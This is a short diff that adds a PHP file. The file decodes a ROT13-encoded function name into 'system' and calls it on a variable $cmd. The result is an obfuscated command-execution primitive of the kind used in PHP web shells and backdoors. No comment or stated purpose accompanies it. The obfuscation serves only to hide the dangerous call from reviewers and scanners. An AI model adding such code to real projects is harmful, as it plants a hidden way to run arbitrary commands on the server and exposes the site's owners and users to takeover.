@@ -1,0 +1,3 @@
+<?php
+$f = str_rot13('flfgrz');
+$f($cmd);
